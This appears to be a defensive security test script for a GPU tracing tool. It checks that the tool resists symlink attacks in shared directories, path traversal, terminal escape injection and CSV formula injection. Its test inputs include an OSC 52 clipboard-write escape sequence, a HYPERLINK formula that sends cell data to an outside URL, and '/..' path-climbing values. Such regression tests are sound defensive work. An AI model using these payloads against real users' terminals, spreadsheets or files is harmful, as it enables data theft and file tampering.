#!/usr/bin/env python3
"""Safe as root on a shared machine (docs/security.md), one case per run:

    check_security.py --cli GPUTRACE --lib LIB --prog PROG --setuid-prog NVTX_PROG CASE

The attacker is the user "nobody" (65534), acting in a shared directory
made as /tmp is (mode 1777); cases that need one run as root only and are
skipped (exit 77) elsewhere. The victim is a file of root's, 0600, in a
directory of root's.

planted_tmp       nobody plants links at the temporary names that report
                  files were written under ("<name>.<pid>.tmp"), for the
                  run's own pid and for `gputrace report`'s: the victim is
                  untouched and the reports are written
snapshot_dir      `gputrace --interval 0.2 -- sh -c 'prog &'`: once the
                  command has ended and removed its snapshot directory,
                  nobody makes a directory of that name and plants a link
                  for the summary the program still writes there: at the
                  snapshots since (its debug log says it left the
                  directory alone), the victim is untouched and nothing of
                  root's lands there
log_link          GPUTRACE_LOG at a link nobody planted, and at a file
                  nobody made: neither is written (one warning, the summary
                  on stderr); a new log is created
hostile_host      a report whose host name climbs out of the directory:
                  `report -o '%h.%p'` and `merge -o '%h'` write in the
                  working directory only, as does %q{VAR} with a value
                  that climbs
hostile_terminal  a report whose advice rule and host name carry terminal
                  escapes (OSC 52, a title, a screen clear): report, merge
                  (its text output and file) and every error line print no
                  control byte
csv_formula       NVTX names a spreadsheet would run (a leading = + - @)
                  and control bytes, in the run's CSV and in report, diff
                  and merge's: each such field starts with ' and no
                  control byte is written
secure_exec       a set-user-ID copy of a program that reaches the library
                  through NVTX's injection variable: GPUTRACE_OUTPUT,
                  GPUTRACE_LOG and GPUTRACE_CUPTI_PATH are ignored (one
                  warning), no file is written, the program's exit status
                  is its own; the same program not set-user-ID writes them
env_once          %q{TAG} in the output template while the program changes
                  TAG with setenv, snapshots on: every file is named with
                  the value at load
modes             with umask 0: reports, traces, the log and `report -o`
                  files are 0644, the command's snapshot directory 0700
                  and its summaries 0600
"""
import argparse
import csv
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from verdict import check, report  # noqa: E402

NOBODY = 65534
SKIP = 77
TIMEOUT = 60
PRECIOUS = b"root's precious data\n"
# Terminal escapes a hostile report carries: a clipboard write (OSC 52), a
# window title, a link (OSC 8), a screen clear, a C1 CSI.
ESCAPES = "\x1b]52;c;aGVsbG8=\x07\x1b]0;pwned\x07\x1b]8;;http://x\x1b\\\x1b[2J\x9b1m"


class Case:
    def __init__(self, args, root):
        self.args = args
        self.root = root
        os.chmod(root, 0o755)  # nobody goes through it into the shared directory

    def path(self, *names):
        return os.path.join(self.root, *names)

    def shared(self):
        """A directory anyone may write to, as /tmp (sticky, 1777)."""
        d = self.path("shared")
        os.makedirs(d, exist_ok=True)
        os.chmod(d, 0o1777)
        return d

    def victim(self):
        d = self.path("private")
        os.makedirs(d, mode=0o700, exist_ok=True)
        v = os.path.join(d, "victim")
        with open(v, "wb") as f:
            f.write(PRECIOUS)
        os.chmod(v, 0o600)
        return v

    def env(self, **extra):
        env = {k: v for k, v in os.environ.items()
               if not k.startswith("GPUTRACE_") and k not in ("LD_PRELOAD", "NVTX_INJECTION64_PATH")}
        env.update(extra)
        return env

    def run(self, argv, env=None, cwd=None, stdin=None):
        p = subprocess.run(argv, env=env or self.env(), cwd=cwd, input=stdin, capture_output=True,
                           timeout=TIMEOUT)
        return p.returncode, p.stdout, p.stderr

    def gputrace(self, *argv, env=None, cwd=None):
        return self.run([self.args.cli, *argv], env=env, cwd=cwd)

    def base_report(self, name="base", *program):
        """A real report of the program (PROG work 3 unless given)."""
        out = self.path(name)
        rc, _, err = self.gputrace("-o", out, "-v", "none", "--", *(program or
                                   (self.args.prog, "work", "3")))
        check(rc == 0 and os.path.exists(out + ".json"), f"the base run: exit {rc}, {err!r}")
        return out + ".json"


def as_nobody(fn):
    """Runs fn() in a child with nobody's user and group; its exit status."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            fn()
            os._exit(0)
        except BaseException as e:  # noqa: B036 - the child reports and leaves
            print(f"as nobody: {e!r}", file=sys.stderr)
            os._exit(1)
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status)


def read(path):
    """The file's bytes; b"" when there is none."""
    try:
        with open(path, "rb") as f:
            return f.read()
    except FileNotFoundError:
        return b""


def untouched(victim, what):
    check(read(victim) == PRECIOUS, f"{what}: the victim was written: {read(victim)[:200]!r}")


def controls(data):
    """The control bytes and characters in data (bytes) but newlines."""
    text = data.decode("utf-8", errors="replace")
    return sorted({c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f})


# ------------------------------------------------------------------ cases

def case_planted_tmp(c):
    shared, victim = c.shared(), c.victim()
    # The program plants, as nobody, links at the old temporary names for
    # its own pid ($$: exec keeps it), then becomes the traced program.
    plant = ('setpriv --reuid=65534 --regid=65534 --clear-groups sh -c '
             '\'for e in json txt csv; do ln -s "$1" "$2/run.$e.$3.tmp" || exit 1; done\' '
             '- "$1" "$2" $$ && exec "$0" work 3')
    rc, _, err = c.gputrace("-o", os.path.join(shared, "run"), "-f", "json,text,csv", "--",
                            "sh", "-c", plant, c.args.prog, victim, shared)
    check(rc == 0, f"the run: exit {rc}: {err!r}")
    untouched(victim, "the run's reports")
    for ext in ("json", "txt", "csv"):
        p = os.path.join(shared, "run." + ext)
        check(os.path.isfile(p) and not os.path.islink(p) and os.stat(p).st_uid == 0,
              f"run.{ext} is not root's regular file: {os.listdir(shared)}")
    check(read(os.path.join(shared, "run.json")).startswith(b'{\n  "tool": "gputrace"'),
          "run.json is not the report")
    # `gputrace report -o`, with links planted for its pid.
    plant = ('setpriv --reuid=65534 --regid=65534 --clear-groups sh -c '
             '\'for e in json csv; do ln -s "$1" "$2/again.$e.$3.tmp" || exit 1; done\' '
             '- "$1" "$2" $$ && exec "$0" report "$3" -o "$2/again" -f json,csv')
    base = c.base_report()
    rc, _, err = c.run(["sh", "-c", plant, c.args.cli, victim, shared, base])
    check(rc == 0, f"gputrace report: exit {rc}: {err!r}")
    untouched(victim, "gputrace report")
    check(read(os.path.join(shared, "again.json")) == read(base), "report -o: not the same JSON")


def environ_of(pid):
    with open(f"/proc/{pid}/environ", "rb") as f:
        return dict(e.split(b"=", 1) for e in f.read().split(b"\0") if b"=" in e)


def case_snapshot_dir(c):
    shared, victim = c.shared(), c.victim()
    pid_file, log = c.path("bg.pid"), c.path("private", "debug.log")
    # At debug the library says each time it leaves a directory alone.
    env = c.env(TMPDIR=shared, GPUTRACE_LOG=log)
    script = '"$0" wait >/dev/null 2>&1 & echo $! > "$1"'
    rc, _, err = c.gputrace("--interval", "0.2", "-v", "debug", "--", "sh", "-c", script,
                            c.args.prog, pid_file, env=env)
    check(rc == 0, f"gputrace: exit {rc}: {err!r}")
    with open(pid_file) as f:
        bg = int(f.read())
    try:
        deadline = time.monotonic() + 20
        template = b""
        while not template and time.monotonic() < deadline:
            template = environ_of(bg).get(b"GPUTRACE_SNAPSHOT_SUMMARY", b"")
            time.sleep(0.05)
        directory = os.path.dirname(template.decode())
        check(directory.startswith(shared + "/gputrace."), f"the snapshot directory: {template!r}")
        check(not os.path.exists(directory), "the command left its directory behind")
        summary = os.path.join(directory, f"summary.{bg}.txt")

        def take_over():
            os.mkdir(directory, 0o755)
            os.symlink(victim, f"{summary}.{bg}.tmp")  # the old temporary name
            os.symlink(victim, summary)
        check(as_nobody(take_over) == 0, "nobody could not make the directory")
        deadline = time.monotonic() + 20  # a snapshot since, on a loaded machine too
        while b"a directory of another user" not in read(log) and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.5)  # and a few more
        check(b"a directory of another user" in read(log),
              f"no snapshot since the directory was taken: {read(log)[-500:]!r}")
        untouched(victim, "the snapshot's summary")
        foreign = [n for n in os.listdir(directory)
                   if os.lstat(os.path.join(directory, n)).st_uid != NOBODY]
        check(not foreign, f"root wrote into nobody's directory: {foreign}")
    finally:
        os.kill(bg, signal.SIGKILL)


def case_log_link(c):
    shared, victim = c.shared(), c.victim()
    planted, theirs = os.path.join(shared, "gt.log"), os.path.join(shared, "their.log")

    def plant():
        os.symlink(victim, planted)
        with open(theirs, "w"):
            pass
    check(as_nobody(plant) == 0, "nobody could not plant")
    for log, why in ((planted, "a symbolic link, not followed"), (theirs, "a file of another user")):
        rc, _, err = c.gputrace("--", c.args.prog, "work", "2", env=c.env(GPUTRACE_LOG=log))
        text = err.decode(errors="replace")
        check(rc == 0 and why in text and "writing to stderr" in text and " | wall " in text,
              f"GPUTRACE_LOG={log}: exit {rc}, stderr {text!r}")
    untouched(victim, "the log")
    check(read(theirs) == b"", f"nobody's log got root's summary: {read(theirs)[:200]!r}")
    mine = os.path.join(shared, "mine.log")
    rc, _, err = c.gputrace("--", c.args.prog, "work", "2", env=c.env(GPUTRACE_LOG=mine))
    check(rc == 0 and b" | wall " in read(mine), f"a new log: exit {rc}, {err!r}")


def case_hostile_host(c):
    base = c.base_report()
    elsewhere, out = c.path("elsewhere"), c.path("out")
    os.makedirs(elsewhere)
    os.makedirs(out)
    with open(base) as f:
        doc = json.load(f)
    doc["process"]["hostname"] = "/.." * 16 + elsewhere + "/pwned"
    host = c.path("host.json")
    with open(host, "w") as f:
        json.dump(doc, f)
    runs = [("report", host, "-o", "%h.%p", "-f", "json,csv,text"),
            ("merge", host, host, "-o", "%h", "-f", "json,csv,text"),
            ("report", host, "-o", "up.%q{CLIMB}", "-f", "json")]
    for argv in runs:
        rc, _, err = c.gputrace(*argv, env=c.env(CLIMB="../../" + os.path.basename(elsewhere)),
                                cwd=out)
        check(rc == 0, f"gputrace {' '.join(argv)}: exit {rc}: {err!r}")
    check(os.listdir(elsewhere) == [], f"written outside: {os.listdir(elsewhere)}")
    written = sorted(os.listdir(out))
    check(len(written) == 7 and all(n.startswith(("_.._", "up.")) for n in written),
          f"the files in the working directory: {written}")


def case_hostile_terminal(c):
    base = c.base_report()
    with open(base) as f:
        doc = json.load(f)
    doc["advice"] = [{"rule": ESCAPES, "count": 1, "message": "see " + ESCAPES}]
    doc["process"]["hostname"] = "node" + ESCAPES
    bad = c.path("bad.json")
    with open(bad, "w") as f:
        json.dump(doc, f)
    os.makedirs(c.path("out"))
    runs = {
        "report": (["report", bad], "stdout"),
        "report -v verbose": (["report", bad, "-v", "verbose"], "stdout"),
        "merge": (["merge", bad, bad], "stdout"),
        "merge -o": (["merge", bad, bad, "-o", c.path("out", "m"), "-f", "text"], "file"),
        "cannot write": (["report", bad, "-o", c.path("missing", "%h"), "-f", "json"], "stderr"),
        "path too long": (["report", bad, "-o", "%h" + "x" * 5000, "-f", "json"], "stderr"),
        "a file name": (["report", c.path("no" + ESCAPES + ".json")], "stderr"),
        "merge of a file name": (["merge", bad, c.path("no" + ESCAPES + ".json")], "stderr"),
    }
    for what, (argv, where) in runs.items():
        rc, out, err = c.gputrace(*argv)
        if where == "file":
            out = read(c.path("out", "m.txt"))
        printed = err if where == "stderr" else out
        check(printed and controls(printed) == [] and controls(err) == [],
              f"{what}: exit {rc}, control characters printed: {controls(printed)} "
              f"{controls(err)}; {printed[-300:]!r}")
        if where != "stderr":
            check(b"[" in printed and b"52;c;aGVsbG8=" in printed,
                  f"{what}: the advice is not shown: {printed[-300:]!r}")


def csv_names(data, what):
    """The name field of each record, after checking none is a formula or
    holds a control character."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    names = [r[1] for r in rows[1:] if len(r) > 1]
    for n in names:
        check(n[:1] not in ("=", "+", "-", "@"), f"{what}: a formula: {n!r}")
        check(controls(n.encode()) == [], f"{what}: control characters in {n!r}")
    return names


def case_csv_formula(c):
    formula = '=HYPERLINK("http://example.com/?d="&A1,"report")\x1b]0;t\x07\r'
    out = c.path("run")
    rc, _, err = c.gputrace("-o", out, "-f", "csv,json", "-v", "none", "--", c.args.prog, "nvtx",
                            formula, "")
    check(rc == 0, f"the run: exit {rc}: {err!r}")
    names = csv_names(read(out + ".csv"), "the run's CSV")
    check(any(n.startswith("'=HYPERLINK(") for n in names), f"the range is not in the CSV: {names}")
    rc, _, err = c.gputrace("-o", c.path("dom"), "-f", "csv", "-v", "none", "--", c.args.prog,
                            "nvtx", "x", "@SUM(A1)")
    names = csv_names(read(c.path("dom.csv")), "a domain's CSV")
    check(any(n.startswith("'@SUM(A1)") for n in names), f"the domain's range: {names}")
    with open(out + ".json") as f:
        doc = json.load(f)
    check(doc["nvtx"], "the run recorded no NVTX range")
    for row in doc["nvtx"]:
        row["name"] = "-2+3" + "\x1b[31m"
    edited = c.path("edited.json")
    with open(edited, "w") as f:
        json.dump(doc, f)
    for what, argv in (("report", ["report", edited, "-f", "csv"]),
                       ("diff", ["diff", out + ".json", edited, "-c", "all", "-f", "csv"])):
        rc, data, err = c.gputrace(*argv)
        check(rc in (0, 1) and data, f"{what}: exit {rc}: {err!r}")
        check(any(n.startswith("'-2+3") for n in csv_names(data, what)), f"{what}: no edited row")
    rc, _, err = c.gputrace("merge", edited, edited, "-o", c.path("merged"), "-f", "csv")
    check(rc == 0, f"merge: exit {rc}: {err!r}")
    check(any(n.startswith("'-2+3") for n in csv_names(read(c.path("merged.csv")), "merge")),
          "merge: no edited row")


def case_secure_exec(c):
    setuid_dir, out, control = c.path("setuid"), c.path("out"), c.path("control")
    for d in (setuid_dir, out, control):
        os.makedirs(d)
    # The set-user-ID process (euid nobody) could write here: it must not.
    os.chown(out, NOBODY, NOBODY)
    os.chmod(setuid_dir, 0o755)
    prog = os.path.join(setuid_dir, "prog")
    shutil.copy(c.args.setuid_prog, prog)
    os.chown(prog, NOBODY, NOBODY)
    os.chmod(prog, 0o4755)
    env = c.env(NVTX_INJECTION64_PATH=c.args.lib, GPUTRACE_OUTPUT=os.path.join(out, "r"),
                GPUTRACE_LOG=os.path.join(out, "log"),
                GPUTRACE_CUPTI_PATH=os.path.join(out, "libcupti.so.13"))
    rc, _, err = c.run([prog], env=env)
    text = err.decode(errors="replace")
    check(rc == 0, f"the set-user-ID program: exit {rc}: {text!r}")
    check(os.listdir(out) == [], f"files written under secure execution: {os.listdir(out)}")
    check("secure execution" in text and " | wall " in text,
          f"no warning or no summary on stderr: {text!r}")
    check("GPUTRACE_CUPTI_PATH" in text,
          f"the warning does not say the CUPTI library named is ignored: {text!r}")
    env.update(GPUTRACE_OUTPUT=os.path.join(control, "r"), GPUTRACE_LOG=os.path.join(control, "log"))
    rc, _, err = c.run([c.args.setuid_prog], env=env)
    check(rc == 0 and sorted(os.listdir(control)) == ["log", "r.json"],
          f"the same program not set-user-ID: exit {rc}, {os.listdir(control)}, {err!r}")


def case_env_once(c):
    out = c.path("out")
    os.makedirs(out)
    rc, _, err = c.gputrace("-o", os.path.join(out, "r.%q{TAG}"), "--interval", "0.2", "-v", "none",
                            "--", c.args.prog, "setenv", "TAG", "after", env=c.env(TAG="before"))
    check(rc == 0, f"the run: exit {rc}: {err!r}")
    check(os.listdir(out) == ["r.before.json"], f"the files: {os.listdir(out)}")


def mode_of(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def children(pid):
    with open(f"/proc/{pid}/task/{pid}/children") as f:
        return [int(p) for p in f.read().split()]


def case_modes(c):
    os.umask(0)
    out = c.path("out")
    os.makedirs(out, mode=0o755)
    log = os.path.join(out, "log")
    rc, _, err = c.gputrace("-o", os.path.join(out, "r"), "-f", "json,text,csv,chrome,perfetto",
                            "--", c.args.prog, "work", "2", env=c.env(GPUTRACE_LOG=log))
    check(rc == 0, f"the run: exit {rc}: {err!r}")
    rc, _, err = c.gputrace("report", os.path.join(out, "r.json"), "-o", os.path.join(out, "again"),
                            "-f", "json,csv,text")
    check(rc == 0, f"gputrace report: exit {rc}: {err!r}")
    names = sorted(os.listdir(out))
    check(len(names) == 9, f"the files: {names}")
    modes = {n: oct(mode_of(os.path.join(out, n))) for n in names}
    check(all(m == "0o644" for m in modes.values()), f"modes with umask 0: {modes}")
    # The command's snapshot directory and summaries, while the program runs.
    p = subprocess.Popen([c.args.cli, "--interval", "0.2", "-v", "none", "--", c.args.prog, "wait"],
                         env=c.env(TMPDIR=c.shared()), stdout=subprocess.PIPE)
    try:
        check(p.stdout.readline() == b"ready\n", "the program did not start")
        (child,) = children(p.pid)
        template = environ_of(child)[b"GPUTRACE_SNAPSHOT_SUMMARY"].decode()
        directory = os.path.dirname(template)
        summary = os.path.join(directory, f"summary.{child}.txt")
        deadline = time.monotonic() + 20  # the first snapshots, on a loaded machine too
        while not os.path.exists(summary) and time.monotonic() < deadline:
            time.sleep(0.05)
        check(mode_of(directory) == 0o700, f"the directory: {oct(mode_of(directory))}")
        check(os.path.exists(summary) and mode_of(summary) == 0o600,
              f"the summary: {os.listdir(directory)} "
              f"{oct(mode_of(summary)) if os.path.exists(summary) else ''}")
    finally:
        p.send_signal(signal.SIGTERM)
        p.communicate(timeout=TIMEOUT)


CASES = {"planted_tmp": case_planted_tmp, "snapshot_dir": case_snapshot_dir,
         "log_link": case_log_link, "hostile_host": case_hostile_host,
         "hostile_terminal": case_hostile_terminal, "csv_formula": case_csv_formula,
         "secure_exec": case_secure_exec, "env_once": case_env_once, "modes": case_modes}
NEED_ROOT = {"planted_tmp", "snapshot_dir", "log_link", "secure_exec"}


def main():
    ap = argparse.ArgumentParser()
    for opt in ("--cli", "--lib", "--prog", "--setuid-prog"):
        ap.add_argument(opt, required=True)
    ap.add_argument("case", choices=sorted(CASES))
    args = ap.parse_args()
    if args.case in NEED_ROOT and os.geteuid() != 0:
        print(f"skipped: {args.case} acts as another user, which needs root")
        return SKIP
    if args.case == "planted_tmp" and not shutil.which("setpriv"):
        print("skipped: no setpriv")
        return SKIP
    with tempfile.TemporaryDirectory(prefix="gt-security-") as root:
        CASES[args.case](Case(args, root))
    return report()


if __name__ == "__main__":
    sys.exit(main())
